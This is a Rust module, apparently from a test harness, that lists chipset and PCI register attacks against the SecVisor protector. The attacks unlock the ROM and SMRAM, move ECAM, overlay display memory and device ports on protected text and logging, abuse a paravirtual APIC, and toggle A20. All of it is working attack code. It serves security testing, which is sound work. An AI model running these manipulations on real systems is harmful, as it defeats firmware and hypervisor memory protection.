//! Chipset and device registers that lay other memory, or other ports, over what SecVisor relies on.

use super::hardware::{call, keyboard, mark, open_a20, try_a20};
use super::routing::{RCBA, ecam, lay_over_text};
use super::{Attack, Plan};
use crate::cpu::{inl, outb, outl};
#[cfg(target_arch = "x86_64")]
use crate::cpu::{write_cr3, wrmsr};
use crate::devices::{LPC_BRIDGE, PCI_ADDRESS, PCI_DATA, pci_address, pci_read, pci_write};
#[cfg(target_arch = "x86_64")]
use crate::memory::{self, HEAP, LARGE, RW, poke8};
use crate::memory::{MARKER, peek, peek32, poke, poke32};
use crate::modules;
use crate::trap::symbol;

/// Functions of bus 0: the host bridge, and Q35's SATA controller with its I/O ports: where they are
/// said, and the index of the registers that are reached by them.
const HOST_BRIDGE: u32 = 0;
const STORAGE: u32 = 0x1F << 3 | 2;
const STORAGE_PORTS: u32 = 0x20;
const STORAGE_INDEX: u16 = 0x10;
const COMMAND: u32 = 4;
const FIRST_BASE: u32 = 0x10;
/// Classes of display controllers.
const DISPLAY: u32 = 3;

/// In the BIOS's ROM, which the host bridge write-protects by its first PAM register.
const ROM: u64 = 0xF_8000;
const PAM: u32 = 0x90;
const PAM_OPEN: u32 = 0x30;
/// The host bridge's SMRAM register, as part of its word: SMRAM is open.
const SMRAM: u32 = 0x9C;
const SMRAM_OPEN: u32 = 1 << 14;
/// Where memory-mapped configuration is, with bit 0 set; and where it could be.
const PCIEXBAR: u32 = 0x60;
const OTHER_ECAM: u64 = 0xD000_0000;

#[cfg(target_arch = "x86_64")]
const FS_BASE: u32 = 0xC000_0100;

/// Around the UART that SecVisor logs to, the keyboard controller's ports, and those of PCI configuration.
const LOG: u64 = 0x2E0;
const KEYBOARD: u64 = 0x60;
const CONFIGURATION: u64 = 0xCE0;

extern "C" fn open_rom(address: u64) {
    pci_write(HOST_BRIDGE, PAM, pci_read(HOST_BRIDGE, PAM) | PAM_OPEN);
    poke(address, MARKER);
}

extern "C" fn open_smram(_: u64) {
    pci_write(HOST_BRIDGE, SMRAM, pci_read(HOST_BRIDGE, SMRAM) | SMRAM_OPEN);
    if pci_read(HOST_BRIDGE, SMRAM) & SMRAM_OPEN != 0 {
        mark();
    }
}

extern "C" fn move_ecam(address: u64) {
    let home = pci_read(HOST_BRIDGE, PCIEXBAR);
    pci_write(HOST_BRIDGE, PCIEXBAR, address as u32 | 1);
    if peek32(address) == pci_read(HOST_BRIDGE, 0) {
        mark();
    }
    pci_write(HOST_BRIDGE, PCIEXBAR, home);
}

/// Moves the display's memory, with the marker in its first word, over RAM.
extern "C" fn cover_memory(address: u64) {
    let class = |function: &u32| pci_read(*function, 8) >> 24 == DISPLAY;
    let display = (0..256).find(class).unwrap_or(0);
    let home = pci_read(display, FIRST_BASE);
    poke(u64::from(home & !0xF), MARKER);
    pci_write(display, FIRST_BASE, address as u32);
    let found = peek(address);
    pci_write(display, FIRST_BASE, home);
    if found == MARKER {
        mark();
    }
}

/// Does something while a device's ports lie over others: these do not see it, but SecVisor does.
fn covered(ports: u64, act: impl FnOnce()) {
    let registers = [STORAGE_PORTS, COMMAND].map(|register| ecam(STORAGE, register));
    let home = registers.map(peek32);
    let set = |values: [u32; 2]| {
        registers.into_iter().zip(values).for_each(|(at, value)| poke32(at, value))
    };
    set([ports as u32 | 1, home[1] | 1]);
    act();
    set(home);
}

/// Covers the UART of SecVisor's log, whose neighbours show it, then does what SecVisor tells there.
extern "C" fn cover_log(ports: u64) {
    covered(ports, || {
        let index = ports as u16 + STORAGE_INDEX;
        outl(index, 0x40);
        if inl(index) == 0x40 {
            mark();
        }
        modules::release(symbol!(text_start));
    });
}

/// Keeps an address that anybody may write to from the hardware, which knows a guarded register's.
extern "C" fn cover_address(_: u64) {
    lay_over_text(|value| {
        outl(PCI_ADDRESS, pci_address(LPC_BRIDGE, RCBA));
        covered(CONFIGURATION, || outl(PCI_ADDRESS, pci_address(STORAGE, FIRST_BASE)));
        outl(PCI_DATA, value as u32);
    });
}

/// Keeps a harmless byte for the output port from the keyboard controller, which waits on.
extern "C" fn cover_keyboard(_: u64) {
    let close = || {
        keyboard(0x64, 0xD1);
        covered(KEYBOARD, || outb(0x60, 0xDF));
        keyboard(0x60, 0xDD);
    };
    try_a20(close, open_a20);
}

/// QEMU's paravirtual APIC for old Windows: the state that its ROM keeps in memory begins so.
#[cfg(target_arch = "x86_64")]
const VIRTUAL_APIC: u64 = u64::from_le_bytes(*b"kvm aPiC");
/// Where it looks for ROM and code: addresses of Windows' kernels.
#[cfg(target_arch = "x86_64")]
const WINDOWS: u64 = 0x8000_0000;

/// Tells that APIC to keep the task priority at `target`, which it does by no DMA that could be seen, and
/// looks like Windows.
#[cfg(target_arch = "x86_64")]
fn aim_virtual_apic(target: u64) {
    for (page, frame) in [(0, 0), (1, symbol!(text_start) & !0x1F_FFFF)] {
        poke(symbol!(pd_low) + ((WINDOWS >> 21) + page) * 8, frame | RW | LARGE);
    }
    write_cr3(memory::root());
    let roms = (0xC_0000..0xF_0000).step_by(4);
    for state in roms.filter(|&at| peek(at) == VIRTUAL_APIC) {
        // Its own address, fixups from and to, and the address of what is kept.
        let fields = [0, 0, 0, (target - state) as u32];
        fields.iter().zip((state + 8..).step_by(4)).for_each(|(word, at)| poke32(at, *word));
    }
    // A processor's control region, which names itself.
    poke32(HEAP + 0x1C, HEAP as u32);
    poke8(HEAP + 0x51, 0);
    wrmsr(FS_BASE, HEAP);
}

/// The rows.
pub const ROWS: &[Attack] = &[
    Attack {
        name: "pci-rom-opened",
        plan: |_| Plan { witness: ROM, ..call(PCI_DATA.into(), open_rom, ROM) },
    },
    Attack { name: "pci-smram-opened", plan: |_| call(PCI_DATA.into(), open_smram, 0) },
    Attack { name: "pci-ecam-moved", plan: |_| call(PCI_DATA.into(), move_ecam, OTHER_ECAM) },
    Attack {
        name: "pci-display-over-text",
        plan: |_| call(symbol!(text_start), cover_memory, symbol!(text_start) & !0xFF_FFFF),
    },
    #[cfg(target_arch = "x86_64")]
    Attack {
        name: "virtual-apic-text",
        plan: |_| {
            aim_virtual_apic(symbol!(victim));
            let code = WINDOWS + (1 << 21) + symbol!(victim_priority) % (1 << 21);
            Plan::call(symbol!(victim), code, 0).at_target()
        },
    },
    Attack { name: "pci-ports-over-log", plan: |_| call(LOG, cover_log, LOG) },
    Attack { name: "pci-ports-over-address", plan: |_| call(PCI_DATA.into(), cover_address, 0) },
    Attack { name: "a20-covered", plan: |_| call(KEYBOARD, cover_keyboard, 0) },
];
